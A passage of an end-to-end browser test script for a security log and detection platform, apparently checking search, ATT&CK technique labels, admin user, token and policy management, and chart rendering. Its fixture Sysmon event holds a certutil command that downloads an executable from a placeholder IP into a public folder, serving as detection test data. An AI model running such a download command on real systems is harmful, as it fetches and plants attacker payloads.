    Version: 5, Task: 1, OpcodeValue: 0, RecordNumber: 4711, ProcessID: 3544, ThreadID: 4272, Channel: 'Microsoft-Windows-Sysmon/Operational',
    Domain: 'NT AUTHORITY', AccountName: 'SYSTEM', UserID: 'S-1-5-18', AccountType: 'User', Opcode: 'Info', RuleName: '-',
    UtcTime: when.slice(0, 23).replace('T', ' '), ProcessGuid: '{0197231E-005A-6928-A50B-000000000D00}', ProcessId: '4460',
    Image: 'C:\\Windows\\System32\\certutil.exe', FileVersion: '10.0.19041.1 (WinBuild.160101.0800)', Description: 'CertUtil.exe',
    Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: 'CertUtil.exe',
    CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe', CurrentDirectory: 'C:\\Users\\jdoe\\',
    User: 'CORP\\jdoe', LogonGuid: '{0197231E-0058-6928-E703-000000000000}', LogonId: '0x3e7', TerminalSessionId: '0', IntegrityLevel: 'Medium',
    Hashes: 'SHA256=0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F9', ParentProcessGuid: '{0197231E-0059-6928-A40B-000000000D00}',
    ParentProcessId: '3120', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe', ParentUser: 'CORP\\jdoe',
    EventReceivedTime: when.slice(0, 19).replace('T', ' '), SourceModuleName: 'eventlog', SourceModuleType: 'im_msvistalog',
  };
  const r = await fetch(`${origin}/api/import/nxlog?format=jsonl`, { method: 'POST', headers: { Servicetoken: adminToken }, body: JSON.stringify(event) });
  check(r.ok && (await r.json()).verdict === 'OK', `import ${r.status}`);
  await page.goto(`${base}/timeline?${new URLSearchParams({ from: 'now-24h', to: 'now', f: `+behaviorRule:${rule.id}` })}`);
  await page.waitForFunction(() => document.querySelector('table.hits tr.hit') || document.querySelector('.empty-results'));
  for (let i = 0; i < 50 && await page.locator('table.hits tr.hit').count() === 0; i++) { // the behavior is searchable within moments
    await page.waitForTimeout(200);
    await page.reload();
    await searched();
  }
  await searched();
  const row = page.locator('table.hits tr.hit').first();
  check(JSON.stringify(await row.locator('a.technique .technique-id').allTextContents()) === JSON.stringify(rule.techniques), 'techniques of the behavior');
  // Each id with its MITRE ATT&CK name beside it (attack-techniques.json), the full name on hover.
  for (const label of await row.locator('a.technique').all()) {
    const id = await label.locator('.technique-id').textContent();
    const name = await label.locator('.technique-name').textContent();
    check(name.length > 0 && attackNames[id] === name, `${id} shown with name "${name}", not "${attackNames[id]}"`);
    check((await label.getAttribute('title')).includes(`${id}: `), `title ${await label.getAttribute('title')}`);
  }
  const technique = rule.techniques[rule.techniques.length - 1];
  await row.locator(`a.technique:has(.technique-id:text-is("${technique}"))`).click();
  await page.waitForURL((u) => u.searchParams.getAll('f').includes(`+risks:${technique}`) && u.searchParams.getAll('f').includes(`+behaviorRule:${rule.id}`));
  await searched();
  check(await page.locator('table.hits tr.hit').count() > 0, 'no behaviors of the technique');
  for (const techniques of await page.locator('table.hits tr.hit .cell-techniques').allTextContents()) check(techniques.includes(technique), techniques);
  await shot('36-timeline-attack');
  // The behavior's rule opens on the rules page.
  await page.locator('table.hits tr.hit').first().locator('a.rule-link').click();
  await page.waitForURL(/\/rules\?q=name/);
  await page.waitForSelector('tr.detail:not([hidden]) .rule-detail');
  check((await page.locator('.rule-detail .rule-description').textContent()) === rule.description, 'the rule did not open');
  // Summaries: the day of the host lists the techniques, each leading to its behaviors of that day.
  await page.goto(`${base}/summaries?${new URLSearchParams({ q: 'key:"WS-E2E.corp.local"', from: 'now-7d', to: 'now' })}`);
  await searched();
  const cell = page.locator('table.summaries tbody tr').first().locator('.cell-techniques');
  const shown = await cell.locator('a.technique .technique-id').allTextContents();
  check(rule.techniques.every((t) => shown.includes(t)), `summary techniques ${shown}`);
  await cell.locator(`a.technique:has(.technique-id:text-is("${technique}"))`).click();
  await page.waitForURL((u) => u.pathname === '/timeline' && u.searchParams.getAll('f').includes(`+risks:${technique}`) && /WS-E2E/.test(u.searchParams.get('q')));
  await searched();
  check(await page.locator('table.hits tr.hit').count() > 0, 'the summary technique leads to no behaviors');
  await shot('37-summary-attack');
});

await step('admin: users (add, disable, roles, delete)', async () => {
  await page.click('.main-nav a[href="/admin"]');
  await page.waitForSelector('#users-table');
  await page.fill('#new-username', 'e2e-analyst');
  await page.fill('#new-password', 'e2e-analyst-password');
  await page.fill('#new-first', 'Eve');
  await page.click('#add-user button[type=submit]');
  await page.waitForSelector('#users-table tr[data-user="e2e-analyst"]');
  const row = page.locator('#users-table tr[data-user="e2e-analyst"]');
  await row.locator('button', { hasText: 'Disable' }).click();
  await page.waitForSelector('#users-table tr[data-user="e2e-analyst"].disabled');
  await page.locator('#users-table tr[data-user="e2e-analyst"] button', { hasText: 'Enable' }).click();
  await page.waitForSelector('#users-table tr[data-user="e2e-analyst"]:not(.disabled)');
  await shot('15-admin-users');
  await page.fill('#new-username', 'e2e-doomed');
  await page.fill('#new-password', 'e2e-doomed-password');
  await page.click('#add-user button[type=submit]');
  await page.waitForSelector('#users-table tr[data-user="e2e-doomed"]');
  await page.locator('#users-table tr[data-user="e2e-doomed"] button', { hasText: 'Delete' }).click();
  await page.waitForSelector('dialog[open]');
  await page.click('dialog[open] button[value=ok]');
  await page.waitForSelector('#users-table tr[data-user="e2e-doomed"]', { state: 'detached' });
});

await step('admin: create an API token (shown once, copy), list, revoke', async () => {
  await page.click('.tabs a[href="/admin/tokens"]');
  await page.waitForSelector('#create-token');
  await page.fill('#token-name', 'e2e-token');
  await page.fill('#token-days', '7');
  await page.click('#create-token button[type=submit]');
  await page.waitForSelector('#new-token');
  const token = await page.inputValue('#new-token');
  check(/^slk_/.test(token), `token ${token.slice(0, 6)}`);
  await page.click('#copy-token');
  await page.waitForSelector('.copied >> text=Copied.');
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  check(copied === token, 'the copied text is not the token');
  const users = await api('auth/userList', {}, token); // the token works
  check(users.users.length > 0, 'token does not work');
  await page.waitForSelector('#tokens-table tr >> text=e2e-token');
  await shot('16-admin-token-created');
  await page.reload();
  await page.waitForSelector('#tokens-table');
  check(await page.locator('#new-token').count() === 0, 'the token is shown again after a reload');
  const row = page.locator('#tokens-table tr', { hasText: 'e2e-token' });
  await row.locator('button', { hasText: 'Revoke' }).click();
  await page.click('dialog[open] button[value=ok]');
  // A revoked token leaves the list (the API lists revoked ones only when asked).
  await page.locator('#tokens-table tr', { hasText: 'e2e-token' }).waitFor({ state: 'detached' });
  await page.reload();
  await page.locator('#tokens-table').or(page.getByText('No API tokens yet.')).waitFor();
  check(await page.locator('#tokens-table tr', { hasText: 'e2e-token' }).count() === 0, 'the revoked token is still listed');
  const r = await fetch(`${origin}/api/auth/userList`, { method: 'POST', headers: { 'Content-Type': 'application/json', Servicetoken: token }, body: '{"kargs":{}}' });
  // Errors come as 200 + verdict ERROR (what the clients read), the status in a header.
  const sent = Number(r.headers.get('X-Seclake-Status')) || r.status;
  check(sent === 401 && (await r.json()).verdict === 'ERROR', `revoked token answered ${sent}`);
});

await step('admin: roles, data policies and audit log (or "not available")', async () => {
  for (const [tab, ready, name] of [
    ['roles', '#roles-table, .unavailable', '17-admin-roles'],
    ['policies', '#policies-form, .unavailable', '18-admin-policies'],
    ['audit', 'table.hits, .empty-results, .unavailable', '19-admin-audit'],
  ]) {
    await page.click(`.tabs a[href="/admin/${tab}"]`);
    await page.waitForSelector(ready);
    const missing = await page.locator('.unavailable').count();
    if (missing) {
      check(/not available on this server/.test(await page.locator('.unavailable').innerText()), `${tab}: no clear message`);
      console.log(`  # ${tab}: the server does not have the call; the page says "not available on this server"`);
    }
    await shot(name);
  }
});

await step('admin: add a data policy and a role using it, then delete both', async () => {
  await page.click('.tabs a[href="/admin/policies"]');
  await page.waitForSelector('#policies-form, .unavailable');
  if (await page.locator('.unavailable').count()) return console.log('  # skipped: no data policy calls on this server');
  await page.fill('#policy-name', 'e2e-acme');
  await page.fill('#policy-description', 'only acme');
  await page.fill('#policy-event', '@customer:acme');
  await page.fill('#policy-summary', 'customer:acme');
  await page.click('#policies-form button[type=submit]');
  await page.waitForSelector('#policies-table tr[data-name="e2e-acme"]');
  // A filter that does not parse is refused with its position.
  await page.fill('#policy-name', 'e2e-broken');
  await page.fill('#policy-event', 'action:(deny');
  await page.click('#policies-form button[type=submit]');
  await page.waitForSelector('#policies-form .notice.error');
  await page.click('.tabs a[href="/admin/roles"]');
  await page.waitForSelector('#roles-form');
  await page.fill('#role-name', 'e2e-acme-analyst');
  await page.check('#roles-form input[value="triage"]');
  await page.fill('#role-data', 'e2e-acme');
  await page.click('#roles-form button[type=submit]');
  await page.waitForSelector('#roles-table tr[data-name="e2e-acme-analyst"]');
  check((await page.locator('#roles-table tr[data-name="e2e-acme-analyst"]').innerText()).includes('e2e-acme'), 'role without its policy');
  await shot('17b-admin-role-added');
  await page.locator('#roles-table tr[data-name="e2e-acme-analyst"] button', { hasText: 'Delete' }).click();
  await page.click('dialog[open] button[value=ok]');
  await page.waitForSelector('#roles-table tr[data-name="e2e-acme-analyst"]', { state: 'detached' });
  await page.click('.tabs a[href="/admin/policies"]');
  await page.waitForSelector('#policies-table tr[data-name="e2e-acme"]');
  await page.locator('#policies-table tr[data-name="e2e-acme"] button', { hasText: 'Delete' }).click();
  await page.click('dialog[open] button[value=ok]');
  await page.waitForSelector('#policies-table tr[data-name="e2e-acme"]', { state: 'detached' });
});

await step('an analyst sees no administration', async () => {
  const analystContext = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  analystContext.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith('data:') && new URL(url).origin !== origin) outside.push(url);
  });
  const p = await analystContext.newPage();
  await p.goto(`${base}/admin/users`);
  await p.waitForSelector('#username');
  await p.fill('#username', 'e2e-analyst');
  await p.fill('#password', 'e2e-analyst-password');
  await p.press('#password', 'Enter');
  await p.waitForURL(/\/admin\/users/);
  await p.waitForSelector('.admin-content .notice.error');
  check(await p.locator('.main-nav a[href="/admin"]').count() === 0, 'the analyst sees the Admin link');
  await p.screenshot({ path: join(artifacts, '20-analyst-no-admin.png') });
  await analystContext.close();
});

await step('an analyst sees the rules, without the controls that change them', async () => {
  const analystContext = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  analystContext.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith('data:') && new URL(url).origin !== origin) outside.push(url);
  });
  const p = await analystContext.newPage();
  await p.goto(`${base}/rules?source=sigma`);
  await p.waitForSelector('#username');
  await p.fill('#username', 'e2e-analyst');
  await p.fill('#password', 'e2e-analyst-password');
  await p.press('#password', 'Enter');
  await p.waitForURL(/\/rules\?source=sigma/);
  await p.waitForSelector('table.rules tr.hit');
  check(await p.locator('#disable-matching, #enable-selected, input.select-rule, button.toggle-rule').count() === 0, 'an analyst is offered to change rules');
  check(/administrators/.test(await p.locator('.rules-toolbar').innerText()), 'no word on who changes rules');
  // The server is the guard: the analyst's own call is refused.
  const analyst = await api('auth/login', { username: 'e2e-analyst', password: 'e2e-analyst-password' });
  const name = await p.locator('table.rules tr.hit').first().getAttribute('data-id');
  const r = await fetch(`${origin}/api/ds/eventwatch_bucket_dao`, {
    method: 'POST', headers: { 'Content-Type': 'application/json', Servicetoken: analyst.sessionToken },
    body: JSON.stringify({ kargs: { action: 'toggle', name, enabled: false } }),
  });
  const sent = Number(r.headers.get('X-Seclake-Status')) || r.status;
  check(sent === 403, `an analyst's toggle answered ${sent}`);
  await p.screenshot({ path: join(artifacts, '38-rules-analyst.png') });
  await analystContext.close();
});

await step('an ended session returns to sign-in with a message', async () => {
  await page.goto(`${base}/search?q=failed&from=now-24h&to=now`);
  await searched();
  await page.evaluate(() => {
    const s = JSON.parse(sessionStorage.getItem('seclake.session'));
    s.sessionToken = 'sls_expired-or-revoked';
    sessionStorage.setItem('seclake.session', JSON.stringify(s));
  });
  await page.fill('#query', 'deny');
  await page.press('#query', 'Enter');
  await page.waitForURL(/\/login\?next=/);
  await page.waitForSelector('.login-form .notice');
  check(/session ended/i.test(await page.locator('.login-form .notice').innerText()), 'no "session ended" message');
  await shot('21-session-ended');
  await page.fill('#username', 'admin');
  await page.fill('#password', password);
  await page.press('#password', 'Enter');
  await page.waitForURL(/\/search\?q=deny/);
  await searched();
});

await step('the query bar suggests field names from the field catalog', async () => {
  await page.click('nav a[href="/search"]');
  await searched();
  await page.fill('#query', '');
  await page.locator('#query').pressSequentially('user.na');
  await page.waitForSelector('#query-suggestions:not([hidden]) li[data-field="user.name"]');
  check(await page.locator('#query').getAttribute('aria-expanded') === 'true', 'combobox not expanded');
  await shot('29-suggestions');
  // Arrow down to user.name, Enter writes it: a field chosen, not a search run.
  const names = await page.locator('#query-suggestions li').evaluateAll((els) => els.map((e) => e.dataset.field));
  for (let i = 0; i <= names.indexOf('user.name'); i++) await page.press('#query', 'ArrowDown');
  await page.press('#query', 'Enter');
  check((await page.inputValue('#query')) === 'user.name:', `query ${await page.inputValue('#query')}`);
  check(await page.locator('#query-suggestions').isHidden(), 'suggestions still open');
  await page.locator('#query').pressSequentially('* AND event.outcome:failure');
  await page.press('#query', 'Escape');
  await page.press('#query', 'Enter');
  await page.waitForURL(/q=user\.name/);
  await searched();
  check(await hitCount() > 0, 'no failed logins with a user name');
  const users = await page.locator('.facet[data-field="@fields.user.name"] .facet-key').count();
  check(users > 0, 'no user facet');
});

await step('fields: per source, with counts, types and examples', async () => {
  await page.click('nav a[href="/fields"]');
  await page.waitForSelector('#fields-table tbody tr');
  const row = page.locator('#fields-table tbody tr[data-field="user.name"]');
  const cells = await row.locator('td').allTextContents();
  check(cells[1] === 'keyword' && Number(cells[2].replace(/,/g, '')) > 0, `user.name row: ${cells}`);
  for (const source of ['sshd', 'windows', 'okta']) check(cells[4].includes(source), `user.name not from ${source}: ${cells[4]}`);
  const ip = await page.locator('#fields-table tbody tr[data-field="source.ip"] td').nth(1).textContent();
  check(ip === 'ip', `source.ip typed ${ip}`);
  await shot('30-fields');
  await page.click('#field-sources button[data-source="okta"]');
  await page.waitForURL(/source=okta/);
  await page.waitForSelector('#field-sources button[data-source="okta"][aria-pressed="true"]');
  await page.waitForSelector('#fields-table tbody tr[data-field="eventType"]');
  check(await page.locator('#fields-table tbody tr[data-field="program"]').count() === 0, 'sshd fields shown for okta');
  await page.fill('#field-filter', 'outcome');
  const shown = await page.locator('#fields-table tbody tr').evaluateAll((els) => els.map((e) => e.dataset.field));
  check(shown.length > 0 && shown.every((f) => f.includes('outcome')), `filtered: ${shown}`);
  await page.click('#fields-table tbody tr[data-field="event.outcome"] a');
  await page.waitForURL(/\/search\?q=_exists_/);
  await searched();
  check(await hitCount() > 0, 'no records with event.outcome');
});

await step('sources: the listener and its sender with what it sent', async () => {
  await page.click('nav a[href="/sources"]');
  await page.waitForSelector('#sources-table tbody tr');
  const listener = await page.locator('#listeners-table tbody tr').first().textContent();
  check(/syslog\+udp:\/\/127\.0\.0\.1:\d+/.test(listener) && listener.includes('edgefw'), `listener row: ${listener}`);
  const sender = page.locator('#sources-table tbody tr[data-address="127.0.0.1"]');
  const cells = await sender.locator('td').allTextContents();
  check(cells[2] === '3', `records of the sender: ${cells}`);
  // Every source of the lake: the demo's, the hostile import's, and the listener's, with their figures.
  const rows = await page.locator('#inventory-table tbody tr').evaluateAll((trs) => trs.map((tr) => ({
    source: tr.dataset.source, type: tr.dataset.type, cells: [...tr.cells].map((td) => td.textContent) })));
  const bySource = Object.fromEntries(rows.map((r) => [r.source, r]));
  for (const source of ['fortigate', 'bind', 'squid', 'windows', 'edr', 'okta', 'sshd', 'suricata', 'netflow', 'e2e', 'edgefw']) {
    check(bySource[source], `${source} not listed: ${rows.map((r) => r.source)}`);
  }
  check(bySource.netflow.type === 'flow' && bySource.netflow.cells[1].startsWith('flows'), `netflow: ${bySource.netflow.cells}`);
  check(bySource.edgefw.cells[1] === 'events · syslog listener' && bySource.fortigate.cells[1] === 'events · import / _bulk', `how sources came: ${bySource.edgefw.cells[1]}, ${bySource.fortigate.cells[1]}`);
  check(bySource.fortigate.cells[2].includes('FortiGate'), `fortigate describes: ${bySource.fortigate.cells[2]}`);
  for (const r of rows) {
    check(/^\d{4}-\d\d-\d\d/.test(r.cells[3]) && /ago|just now/.test(r.cells[3]), `${r.source} last event: ${r.cells[3]}`);
    check(/^\d+(\.\d+)?$/.test(r.cells[4]) && Number(r.cells[6].replace(/,/g, '')) >= 0, `${r.source}: ${r.cells}`);
  }
  check(Number(bySource.fortigate.cells[5].replace(/,/g, '')) > 100, `fortigate records: ${bySource.fortigate.cells[5]}`);
  const seen = rows.map((r) => r.cells[3]);
  check(seen.join() === [...seen].sort().reverse().join(), 'not newest first');
  await page.click('#inventory-table tbody tr[data-source="okta"] a');
  await page.waitForURL(/\/search\?q=%40source/);
  await searched();
  check(await hitCount() > 0, 'the okta link found nothing');
  await page.goBack();
  await page.waitForSelector('#inventory-table tbody tr');
  await shot('28-sources');
});

await step('the API reference lists every call from the OpenAPI document', async () => {
  await page.click('nav a[href="/reference"]');
  await page.waitForSelector('#reference section.reference-call');
  const calls = await page.locator('#reference section.reference-call h2').allTextContents();
  check(calls.includes('/api/ds/get_index_zoom_histogram_lv3') && calls.includes('/api/auth/login'), `calls: ${calls.slice(0, 5)}`);
  check(calls.length >= 26, `only ${calls.length} calls listed`);
  const login = page.locator('section#auth_login');
  check((await login.textContent()).includes('sessionToken'), 'the login reply is not described');
  // Every field described, a contents list leading to each call, type names linking to their definitions.
  const empty = await page.locator('#reference table.reference-fields tbody tr').evaluateAll((trs) =>
    trs.filter((tr) => !tr.cells[tr.cells.length - 1].textContent.trim()).map((tr) => `${tr.closest('section').id}.${tr.dataset.field}`));
  check(empty.length === 0, `fields without a description: ${empty.slice(0, 10)}`);
  check(await page.locator('nav.reference-contents a[href="#auth_login"]').count() === 1, 'no contents entry for auth/login');
  const titles = await page.locator('#reference section.reference-call > p:first-of-type').allTextContents();
  check(titles.includes('Every data policy, as {policies}.') && !titles.some((t) => /icys\b/.test(t)), `titles: ${titles.filter((t) => /polic/i.test(t))}`);
  await page.click('section#auth_dataPolicyAdd a.type-link >> text=PolicyInput');
  await page.waitForFunction(() => location.hash === '#type-PolicyInput');
  const box = await page.locator('#type-PolicyInput').boundingBox();
  check(box && box.y >= -1 && box.y < 200, `the type's definition is not scrolled to: ${JSON.stringify(box)}`);
  check((await page.locator('#type-PolicyInput tr[data-field="filters"]').textContent()).includes('@customer:acme'), 'PolicyInput.filters');
  await page.click('nav.reference-contents a[href="#auth_login"]');
  await page.waitForFunction(() => location.hash === '#auth_login');
  await shot('31-reference');
});

// ---- the interface's rough edges (issue 42) -----------------------------------------

const ISO_MINUTE = /^\d{4}-\d\d-\d\d \d\d:\d\d$/;

await step('histogram: round ticks, a date on each day boundary, the bucket size, a count scale, bar tooltips', async () => {
  await page.goto(`${base}/search?from=now-7d&to=now`);
  await searched();
  const labels = await page.locator('.histogram text.x-axis').allTextContents();
  const dates = labels.filter((l) => /^\d\d-\d\d$/.test(l));
  check(labels.every((l) => /^\d\d-\d\d$/.test(l) || /^\d\d:00$/.test(l)), `tick labels not round: ${labels}`);
  check(dates.length >= 6, `7 days show ${dates.length} dates: ${labels}`);
  const days = dates.map((d) => Number(d.slice(3)));
  check(days.every((d, i) => i === 0 || d === days[i - 1] + 1 || d === 1), `dates not one per day: ${dates}`);
  const xs = await page.locator('.histogram text.x-axis').evaluateAll((els) => els.map((e) => Number(e.getAttribute('x'))));
  check(xs.every((x, i) => i === 0 || x > xs[i - 1]), 'ticks out of order');
  const caption = await page.locator('.histogram .axis-caption').textContent();
  check(/^Hits per (\d+ )?(hour|hours|minutes|day)/.test(caption), `no bucket size: ${caption}`);
  const ys = (await page.locator('.histogram text.y-axis').allTextContents()).map((t) => Number(t.replace(/,/g, '').replace(/K$/, '000')));
  check(ys.length >= 3 && ys[0] === 0 && ys.every((v, i) => i === 0 || v > ys[i - 1]), `y scale ${ys}`);
  // The tallest bar: its tooltip names its range and count, and the scale reaches it.
  const bars = await page.locator('.histogram rect.bar').evaluateAll((els) => els.map((e) => ({
    x: Number(e.getAttribute('x')), w: Number(e.getAttribute('width')), from: Number(e.dataset.from), to: Number(e.dataset.to),
    title: e.querySelector('title').textContent })));
  const counts = bars.map((b) => Number(b.title.match(/: ([\d,]+) hits?$/)[1].replace(/,/g, '')));
  const top = counts.indexOf(Math.max(...counts));
  check(ys[ys.length - 1] >= counts[top], `the scale tops at ${ys[ys.length - 1]} under ${counts[top]}`);
  const chart = await page.locator('.histogram').boundingBox();
  const svgWidth = Number(await page.locator('.histogram').getAttribute('width'));
  const scale = chart.width / svgWidth;
  await page.mouse.move(chart.x + (bars[top].x + bars[top].w / 2) * scale, chart.y + chart.height * 0.6);
  await page.waitForSelector('.histogram .histogram-tip[visibility="visible"]');
  const tip = await page.locator('.histogram .tip-text').textContent();
  const from = (await page.evaluate((ms) => new Date(ms).toISOString(), bars[top].from)).slice(0, 16).replace('T', ' ');
  check(tip.startsWith(from) && tip.includes('→') && tip.endsWith(`${counts[top].toLocaleString('en-US')} hits`), `tooltip "${tip}" for bucket ${from}`);
  await shot('40-histogram-7d');
  // A day: hours on round boundaries, the date at midnight.
  await page.click('#time-button');
  await page.click('.preset[data-preset="24h"]');
  await page.waitForURL((u) => u.searchParams.get('from') === 'now-24h');
  await searched();
  const day = await page.locator('.histogram text.x-axis').allTextContents();
  check(day.filter((l) => /^\d\d-\d\d$/.test(l)).length === 1, `24 hours show one date: ${day}`);
  const hours = day.filter((l) => /:/.test(l)).map((l) => Number(l.slice(0, 2)));
  // The step between two hour ticks: the least gap, since the date takes midnight's place (22:00, 11-28, 02:00).
  const every = hours.length > 1 ? Math.min(...hours.slice(1).map((hh, i) => (hh - hours[i] + 24) % 24)) : 1;
  check(hours.every((hh) => hh % every === 0) && day.every((l) => !/:/.test(l) || l.endsWith(':00')), `hour ticks not round: ${day}`);
  // An hour: minutes on round boundaries; the day is in the caption when no tick is a date.
  await page.click('#time-button');
  await page.click('.preset[data-preset="1h"]');
  await page.waitForURL((u) => u.searchParams.get('from') === 'now-1h');
  await searched();
  const hour = await page.locator('.histogram text.x-axis').allTextContents();
  const minutes = hour.filter((l) => /:/.test(l)).map((l) => Number(l.slice(3, 5)));
  check(minutes.length >= 3 && minutes.every((m) => m % 5 === 0), `minute ticks not round: ${hour}`);
  const hourCaption = await page.locator('.histogram .axis-caption').textContent();
  if (!hour.some((l) => /^\d\d-\d\d$/.test(l))) check(/· \d{4}-\d\d-\d\d ·/.test(hourCaption), `no date anywhere: ${hourCaption}`);
});

await step('a syntax error: the message once, one caret, the chart and fields say why they are empty', async () => {
  await page.fill('#query', 'action:(deny OR ');
  await page.press('#query', 'Enter');
  await page.waitForSelector('.query-error:not([hidden]) .query-caret');
  await page.waitForSelector('.histogram-note');
  const text = await page.locator('#main').innerText() + await page.locator('.search-header').innerText();
  check((text.match(/position 16/g) || []).length === 1, `the error is shown ${(text.match(/position 16/g) || []).length} times`);
  const caret = await page.locator('.query-caret').innerText();
  check((caret.match(/\^/g) || []).length === 1 && await page.locator('.query-caret .caret-at').count() === 0, `carets: ${caret}`);
  check(/query has an error/.test(await page.locator('.histogram-note').textContent()), 'the chart does not say why it is empty');
  check(/query has an error/.test(await page.locator('.facets').innerText()), 'the field column is blank');
  check(await page.locator('.results .query-failed').count() === 1 && await page.locator('.results .notice.error').count() === 0, 'results not marked');
  await shot('41-query-error');
});

await step('times: ISO 8601 in the record and the field catalog (epoch ms on hover); absolute times typed as ISO 24 h', async () => {
  await page.goto(`${base}/search?from=now-24h&to=now`);
  await searched();
  await page.locator('table.hits tr.hit').first().locator('button.expand').click();
  const detail = page.locator('table.hits tr.detail:not([hidden])').first();
  const stamp = detail.locator('.fields tr', { has: page.locator('th', { hasText: /^@timestamp$/ }) }).locator('.field-value');
  const shown = await stamp.textContent();
  const raw = await stamp.getAttribute('title');
  check(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3}$/.test(shown), `@timestamp shown as ${shown}`);
  check(/^\d{13} \(epoch milliseconds\)$/.test(raw) && new Date(Number(raw.slice(0, 13))).toISOString().replace('T', ' ').replace('Z', '') === shown, `raw ${raw} for ${shown}`);
  await page.click('#time-button');
  check(await page.locator('#abs-from').getAttribute('type') === 'text', 'the time input is the locale\'s datetime-local');
  check(ISO_MINUTE.test(await page.inputValue('#abs-from')) && ISO_MINUTE.test(await page.inputValue('#abs-to')), 'inputs not ISO');
  await page.fill('#abs-from', '01/02/2020 1:30 PM');
  await page.click('.time-panel .absolute button[type=submit]');
  await page.waitForSelector('.time-panel .field-problem >> text=/not a time/');
  check(await page.locator('#abs-from').getAttribute('aria-invalid') === 'true', 'the bad input is not marked');
  await page.fill('#abs-from', '2020-01-01 13:30');
  await page.fill('#abs-to', '2020-01-01 23:45');
  await page.click('.time-panel .absolute button[type=submit]');
  await page.waitForURL((u) => u.searchParams.get('from') === String(Date.UTC(2020, 0, 1, 13, 30)) && u.searchParams.get('to') === String(Date.UTC(2020, 0, 1, 23, 45)));
  await searched();
  check((await page.locator('#time-button').innerText()).includes('2020-01-01 13:30 → 2020-01-01 23:45'), await page.locator('#time-button').innerText());
  await page.goto(`${base}/fields`);
  const examples = page.locator('#fields-table tbody tr[data-field="@timestamp"] td.examples');
  await examples.waitFor();
  const times = await examples.locator('time').allTextContents();
  check(times.length > 0 && times.every((t) => /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/.test(t)), `catalog examples ${times}`);
  check(/\d{13}/.test(await examples.getAttribute('title')), 'no raw value on hover');
  await shot('42-times');
});

await step('flows: bytes and packets scaled, readable column names with the field on hover', async () => {
  await page.goto(`${base}/search?type=flow&from=now-24h&to=now`);
  await searched();
  const titles = await page.locator('table.hits thead th').evaluateAll((els) => els.map((e) => e.getAttribute('title')));
  check(titles.includes('Field: @fields.totalB') && titles.includes('Field: @fields.prot'), `column titles ${titles}`);
  const bytes = await page.locator('table.hits tbody tr.hit').evaluateAll((rows) => rows.map((r) => r.children[6].textContent));
  check(bytes.length > 0 && bytes.every((b) => /^\d+(\.\d)?\u00a0(B|KiB|MiB|GiB|TiB)$/.test(b)), `bytes ${bytes.slice(0, 5)}`);
  check(bytes.some((b) => !/\u00a0B$/.test(b)), 'no flow above 1 KiB shown scaled');
  const packets = await page.locator('table.hits tbody tr.hit').evaluateAll((rows) => rows.map((r) => r.children[7].textContent));
  check(packets.every((p) => /^\d{1,3}$|^\d+(\.\d)?[KMB]$/.test(p)), `packets ${packets.slice(0, 5)}`);
  await page.locator('table.hits tr.hit').first().locator('button.expand').click();
  const row = page.locator('tr.detail:not([hidden]) .fields tr', { has: page.locator('th[title="@fields.totalB"]') });
  check((await row.locator('th').textContent()) === 'Bytes', 'no readable name for totalB');
  const value = row.locator('.field-value');
  check(/^\d+$/.test(await value.getAttribute('title')) && /(B|KiB|MiB|GiB)$/.test(await value.textContent()), 'totalB not scaled with its raw value on hover');
  await shot('43-flows');
});

await step('data policy form: it asks what an unnamed dataset means, and the list and the searches agree', async () => {
  for (const [name, kargs] of [['auth/userDelete', { username: 'e2e-e2e-events-only' }], ['auth/userDelete', { username: 'e2e-e2e-events-open' }],
    ['auth/dataPolicyDelete', { name: 'e2e-events-only' }], ['auth/dataPolicyDelete', { name: 'e2e-events-open' }]]) {
    await api(name, kargs, adminToken).catch(() => {}); // left by an earlier run
  }
  await page.goto(`${base}/admin/policies`);
  await page.waitForSelector('#policies-form');
  check(await page.locator('#policies-form').getByText('(no limit)').count() === 0, 'the form still says "(no limit)"');
  check(/not visible/.test(await page.getAttribute('#policy-flow', 'placeholder')), 'empty flow filter not said to hide flows');
  await page.fill('#policy-name', 'e2e-events-only');
  await page.fill('#policy-event', '@customer:acme');
  await page.click('#policies-form button[type=submit]');
  await page.waitForSelector('#policies-table tr[data-name="e2e-events-only"]');
  check((await page.locator('#policies-table tr[data-name="e2e-events-only"] li[data-dataset="flow"]').innerText()) === 'flow: not visible', 'the list does not say flows are hidden');
  await page.fill('#policy-name', 'e2e-events-open');
  await page.fill('#policy-event', '@customer:acme');
  await page.check('#policy-unnamed input[value="all"]');
  check(/\*/.test(await page.getAttribute('#policy-flow', 'placeholder')), 'the placeholder does not follow the choice');
  await page.click('#policies-form button[type=submit]');
  await page.waitForSelector('#policies-table tr[data-name="e2e-events-open"]');
  check((await page.locator('#policies-table tr[data-name="e2e-events-open"] li[data-dataset="flow"]').innerText()) === 'flow: all (*)', 'the list does not say flows are all visible');
  await shot('44-policies-unnamed');
  const stored = (await api('auth/dataPolicyList', {}, adminToken)).policies.find((p) => p.name === 'e2e-events-open');
  check(JSON.stringify(stored.filters) === JSON.stringify({ event: '@customer:acme', flow: '*', behavior: '*', summary: '*', audit: '*' }), `stored ${JSON.stringify(stored.filters)}`);
  // What the server does with each: an analyst of each policy searches flows.
  const now = Date.now();
  const flows = async (policy) => {
    const username = `e2e-${policy}`;
    await api('auth/userAdd', { user: { username, password: 'e2e-policy-password', roles: ['analyst'], dataPolicies: [policy] } }, adminToken);
    const token = (await api('auth/login', { username, password: 'e2e-policy-password' })).sessionToken;
    const res = await api('ds/get_index_zoom_histogram_lv3', { partition: 'default', dataType: 'flow', options: { dateFacetField: '@timestamp', range_from: now - 86400e3, range_to: now, fetchLimit: 1, dataType: 'flow' } }, token);
    await api('auth/userDelete', { username }, adminToken);
    return res.hits.total;
  };
  check(await flows('e2e-events-only') === 0, 'a policy naming only events showed flows');
  check(await flows('e2e-events-open') > 0, 'a policy leaving flows open showed none');
